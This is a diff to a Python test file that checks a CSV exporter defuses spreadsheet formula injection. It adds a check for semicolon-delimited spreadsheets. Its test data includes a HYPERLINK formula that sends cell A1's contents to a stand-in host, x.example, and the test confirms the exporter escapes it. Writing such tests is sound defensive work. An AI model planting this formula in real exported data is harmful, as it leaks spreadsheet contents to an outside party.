@@ -147,10 +147,14 @@ def test_csv_cells_a_spreadsheet_would_run_are_kept_as_text():
 
     rows = list(csv.reader(io.StringIO(to_csv(["name", "n"], [
         ['=HYPERLINK("http://x.example/?"&A1,"click")', 1], ["+1", -2], ["@SUM(A1)", None],
-        ["-3", 0], ["\tTab", 4], ["管道班", 5], ["x;=1+1", 6], ["a, -b", 7], ["A-B;C", 8]]).removeprefix("\ufeff"))))
+        ["-3", 0], ["\tTab", 4], ["管道班", 5], ["x;=1+1", 6]]).removeprefix("\ufeff"))))
     assert rows[1:] == [["'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "1"], ["'+1", "-2"],
-                        ["'@SUM(A1)", ""], ["'-3", "0"], ["'\tTab", "4"], ["管道班", "5"],
-                        ["'x;=1+1", "6"], ["'a, -b", "7"], ["A-B;C", "8"]]
+                        ["'@SUM(A1)", ""], ["'-3", "0"], ["'\tTab", "4"], ["管道班", "5"], ["x;=1+1", "6"]]
+    # Read as a spreadsheet set to split on ";" reads it (a German or French Excel): the text
+    # cells are quoted, so "x;=1+1" stays one cell and nothing in it starts a formula there.
+    spoken = to_csv(["name", "n"], [["x;=1+1", 6], ["a; @b", 7]]).removeprefix("\ufeff")
+    for row in csv.reader(io.StringIO(spoken), delimiter=";"):
+        assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in row), row
 
 
 @pytest.mark.parametrize("params, field", [
